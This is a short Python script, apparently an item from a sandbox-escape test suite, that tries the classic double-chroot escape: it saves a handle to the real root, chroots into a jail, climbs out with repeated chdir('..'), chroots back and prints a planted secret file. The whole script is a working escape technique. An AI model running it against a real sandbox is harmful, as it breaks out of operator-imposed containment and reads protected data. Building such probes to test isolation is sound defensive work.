"""Leaves its root by a second root (the classic way).

Escape: the secret is printed, or the line ESCAPED.
Tiers: both
"""

import json
import os

P = json.load(open("/project/planted.json"))


os.makedirs("/tmp/jail", exist_ok=True)
try:
    here = os.open("/", os.O_RDONLY)
    os.chroot("/tmp/jail")
    os.fchdir(here)
    for _ in range(50):
        os.chdir("..")
    os.chroot(".")
    print("ESCAPED", open(P["secret"]).read())
except OSError as error:
    print(error)
